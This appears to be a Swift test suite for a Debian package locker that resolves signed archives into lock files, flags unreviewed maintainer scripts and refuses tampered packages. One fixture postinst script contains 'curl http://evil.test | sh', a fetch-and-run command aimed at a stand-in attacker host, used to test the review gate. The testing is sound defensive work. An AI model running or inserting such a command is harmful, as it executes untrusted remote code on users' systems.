import BlobStore
import Bytes
import FoundationEssentials
import Manifest
import TestSupport
import Testing

@testable import DebianArchive

/// From a signed archive to a lock: real packages made by dpkg-deb, real gpgv, real libsolv, real sockets.
@Suite(.enabled(if: FixtureArchive.isAvailable, "gpg, gpgv, dpkg-deb and xz are needed"))
struct LockerTests {
  private typealias Source = FixtureArchive.Source

  private static let sources = [
    Source(
      name: "app", fields: ["Depends: lib (>= 1)"],
      control: [
        "postinst": "#!/bin/sh\nset -e\nldconfig\n", "prerm": "#!/bin/sh\nexit 0\n",
        "triggers": "activate-noawait ldconfig\n",
      ]),
    Source(name: "lib"), Source(name: "linux"), Source(name: "stub", fields: ["Depends: app"]),
    Source(name: "other", fields: ["Depends: lib"]),
  ]
  private static let strange = "#!/bin/sh\nset -e\ncurl http://evil.test | sh\n"

  /// A directory with an archive, a server for it and a store.
  private struct Bench {
    let directory: URL
    var archive: FixtureArchive
    let server: LoopbackServer
    let store: BlobStore

    mutating func publish(_ sources: [FixtureArchive.Source]) throws {
      try archive.publish(sources)
      let served = archive
      server.handle { served.reply($0) }
    }

    var suite: Manifest.Suite { .fixture(archive.key.keyring) }

    func lock(
      _ image: ComposedImage, previous: LockFile? = nil, update: Locker.Update = .none
    ) async throws -> Locker.Outcome {
      let client = try FixtureClient([server], store: store)
      return try await Locker(fetcher: client.fetcher, loader: client.loader)
        .lock(image, previous: previous, update: update)
    }

    func refusal(_ image: ComposedImage, previous: LockFile? = nil, update: Locker.Update = .none)
      async throws
      -> ArchiveError
    {
      try #require(
        await #expect(throws: ArchiveError.self) {
          try await lock(image, previous: previous, update: update)
        })
    }
  }

  private func withBench(_ body: (inout Bench) async throws -> Void) async throws {
    try await withScratchDirectory { directory in
      let archive = try FixtureArchive(in: directory)
      try await withServer({ _ in .status(404) }) { server in
        var bench = Bench(
          directory: directory, archive: archive, server: server,
          store: try BlobStore(root: directory.path + "/store"))
        try await body(&bench)
      }
    }
  }

  @Test func aLockHoldsAllThatABuildNeeds() async throws {
    try await withBench { bench in
      try bench.publish(Self.sources)
      let image = LockFixture.image(bench.suite)
      let outcome = try await bench.lock(image)
      let lock = outcome.lock
      #expect(outcome.warnings.isEmpty)
      #expect(lock.packages.map(\.name) == ["app", "lib", "linux", "stub"])
      #expect(lock.packages.map(\.role) == [.image, .image, .image, .build])
      #expect(lock.package(named: "lib")?.why == ["component base asks for app", "app needs lib (>= 1)"])
      #expect(lock.archives.map(\.version) == ["13.1"])
      let app = try #require(lock.package(named: "app"))
      #expect(app.scripts.map(\.name) == ["postinst", "prerm"])
      #expect(app.scripts.map(\.scriptClass) == [.known, .notRun])
      #expect(app.scripts.first?.actions == ["ldconfig"])
      #expect(
        app.scripts.first?.digest == SHA256.digest(of: Array("#!/bin/sh\nset -e\nldconfig\n".utf8)))
      #expect(app.triggers == [LockFile.Trigger(text: "activate-noawait ldconfig", triggerClass: .known)])
      #expect(lock.check(against: image).isEmpty)
      // Every package is here, and is what the lock says.
      for package in lock.packages {
        let bytes = try #require(try bench.store.read(package.digest))
        #expect(bytes == bench.archive.files[package.path])
        #expect(bytes.count == package.size)
      }
      // Again, from the lock or from nothing: the same bytes.
      #expect(try await bench.lock(image, previous: lock).lock.encoded() == lock.encoded())
      let elsewhere = try FixtureClient(
        [bench.server], store: try BlobStore(root: bench.directory.path + "/other"))
      let again = try await Locker(fetcher: elsewhere.fetcher, loader: elsewhere.loader).lock(image)
      #expect(again.lock.encoded() == lock.encoded())
    }
  }

  @Test func addingAPackageMovesNothingElse() async throws {
    try await withBench { bench in
      try bench.publish(Self.sources)
      let before = try await bench.lock(LockFixture.image(bench.suite)).lock
      let newer = ["app", "lib", "linux", "stub"].map { Source(name: $0, version: "2") }
      try bench.publish(Self.sources + newer)
      let wider = LockFixture.image(bench.suite, include: ["app", "other"])
      let kept = try await bench.lock(wider, previous: before).lock
      #expect(kept.packages.filter { $0.name != "other" } == before.packages)
      #expect(kept.package(named: "other")?.version == "1")
      let one = try await bench.lock(wider, previous: before, update: .names(["lib"])).lock
      #expect(
        one.packages.map { "\($0.name)=\($0.version)" } == ["app=1", "lib=2", "linux=1", "other=1", "stub=1"])
      let all = try await bench.lock(wider, previous: before, update: .all).lock
      #expect(
        all.packages.map { "\($0.name)=\($0.version)" } == ["app=2", "lib=2", "linux=2", "other=1", "stub=2"])
      let error = try await bench.refusal(wider, previous: before, update: .names(["libb"]))
      #expect(error.code == .unknownPackage)
      #expect(error.description.hasSuffix("did you mean lib?"))
    }
  }

  @Test func everyUnknownScriptIsListedWithWhatAReviewNeeds() async throws {
    try await withBench { bench in
      var sources = Self.sources
      sources[1].control["postinst"] = Self.strange
      sources[2].control["preinst"] = "#!/usr/bin/perl\nprint 1;\n"
      try bench.publish(sources)
      let digest = SHA256.digest(of: Array(Self.strange.utf8))
      let error = try await bench.refusal(LockFixture.image(bench.suite))
      #expect(error.code == .unreviewedScript)
      let text = error.description
      #expect(text.hasPrefix("2 maintainer scripts must be reviewed by a person before router can be locked"))
      #expect(text.contains("lib 1 postinst:3: not understood: curl http://evil.test | sh"))
      #expect(text.contains("linux 1 preinst:1: not understood"))
      #expect(
        text.contains(
          "  - package: lib\n    script: postinst\n    sha256: [\(digest.hex)]\n    reason: \"\"\n"
            + "  - package: linux\n"
        ))
      // Reviewed, both: the lock is made, and says so.
      let reviews = [
        ScriptReview(package: "lib", script: .postinst, digests: [digest], reason: "read"),
        ScriptReview(
          package: "linux", script: .preinst,
          digests: [SHA256.digest(of: Array("#!/usr/bin/perl\nprint 1;\n".utf8))],
          reason: "read"),
      ]
      let image = LockFixture.image(bench.suite, reviews: reviews)
      let outcome = try await bench.lock(image)
      #expect(outcome.lock.package(named: "lib")?.scripts.map(\.scriptClass) == [.reviewed])
      #expect(outcome.warnings.isEmpty)
      #expect(outcome.lock.check(against: image).isEmpty)
      // The script changes: the old review does not stand for the new text.
      sources[1].version = "2"
      sources[1].control["postinst"] = Self.strange + "true\n"
      try bench.publish(sources)
      let changed = try await bench.refusal(image)
      #expect(
        changed.description.contains("lib 2 postinst:3: the script changed since it was reviewed: curl"))
      #expect(!changed.description.contains("linux"))
    }
  }

  @Test func scriptsOfPackagesThatOnlyTheBuildReadsDoNotMatter() async throws {
    try await withBench { bench in
      var sources = Self.sources
      sources[3].control["postinst"] = Self.strange
      try bench.publish(sources)
      let lock = try await bench.lock(LockFixture.image(bench.suite)).lock
      #expect(lock.package(named: "stub")?.scripts.isEmpty == true)
    }
  }

  @Test func whatNothingNeedsIsAWarning() async throws {
    try await withBench { bench in
      try bench.publish(Self.sources)
      let review = ScriptReview(
        package: "lib", script: .postinst, digests: [SHA256.digest(of: [])], reason: "x")
      let outcome = try await bench.lock(
        LockFixture.image(bench.suite, exclude: ["other", "lib"], reviews: [review]))
      #expect(outcome.lock.packages.map(\.name) == ["app", "linux", "stub"])
      #expect(outcome.warnings.count == 2)
      #expect(outcome.warnings.first?.hasPrefix("excluding other changes nothing") == true)
      #expect(outcome.warnings.last?.contains("review of lib postinst at manifests/router.yaml:3:5") == true)
    }
  }

  @Test func anotherPackageUnderTheNameOfOneIsRefused() async throws {
    try await withBench { bench in
      try bench.publish(Self.sources)
      // The index, signed, calls a package of another version by this name.
      let index = bench.archive.files.first { $0.key.hasSuffix("Packages.xz") }
      #expect(index != nil)
      let lib = try #require(bench.archive.files["pool/main/lib_1_amd64.deb"])
      let paragraphs = ["app", "linux", "stub"].map { name in
        SolverFixture.paragraph(
          name, "1", "Filename: pool/main/lib_1_amd64.deb", "Size: \(lib.count)",
          "SHA256: \(SHA256.digest(of: lib).hex)")
      }
      try bench.archive.publish(index: Array(paragraphs.joined(separator: "\n").utf8))
      let served = bench.archive
      bench.server.handle { served.reply($0) }
      let error = try await bench.refusal(LockFixture.image(bench.suite))
      #expect(error.code == .badPackage)
      #expect(error.description.contains("is lib 1, but the index calls it"))
    }
  }

  @Test(arguments: [true, false])
  func aPackageOfWrongBytesIsRefused(isSameSize: Bool) async throws {
    try await withBench { bench in
      try bench.publish(Self.sources)
      let path = "pool/main/lib_1_amd64.deb"
      if isSameSize { bench.archive.files[path]?[100] ^= 1 } else { bench.archive.files[path]?.append(0) }
      let served = bench.archive
      bench.server.handle { served.reply($0) }
      let error = try await bench.refusal(LockFixture.image(bench.suite))
      #expect(error.code == .mirrorLied)
      #expect(error.description.contains("lib_1_amd64.deb"))
    }
  }

  // MARK: the packages of a lock

  @Test func aLockIsFetchedAndThenBuiltOffline() async throws {
    try await withBench { bench in
      try bench.publish(Self.sources)
      let lock = try await bench.lock(LockFixture.image(bench.suite)).lock
      let mirrors = MirrorConfiguration(sources: [
        [try MirrorConfiguration.parse("\(bench.server.address)/debian", origin: "test")]
      ])
      let fresh = try BlobStore(root: bench.directory.path + "/fresh")
      let count = bench.server.requests.count
      let missing = await #expect(throws: ArchiveError.self) {
        try await PackageFetcher.fetchAll(lock, store: fresh, mirrors: mirrors, isOffline: true)
      }
      #expect(missing?.code == .offline)
      #expect(missing?.description.hasPrefix("4 of 4 packages are not in the store") == true)
      #expect(missing?.description.contains("\n  lib 1 (") == true)
      #expect(bench.server.requests.count == count)
      #expect(try await PackageFetcher.fetchAll(lock, store: fresh, mirrors: mirrors).isEmpty)
      #expect(lock.packages.allSatisfy { fresh.contains($0.digest, size: $0.size) })
      let fetched = bench.server.requests.count
      try await PackageFetcher.fetchAll(lock, store: fresh, mirrors: mirrors, isOffline: true)
      #expect(bench.server.requests.count == fetched)
      // A spoiled blob is healed from the mirror.
      let app = try #require(lock.package(named: "app"))
      try Data([0]).write(to: URL(fileURLWithPath: fresh.path(of: app.digest)))
      try await PackageFetcher.fetchAll(lock, store: fresh, mirrors: mirrors)
      #expect(try fresh.read(app.digest) == bench.archive.files[app.path])
    }
  }
}
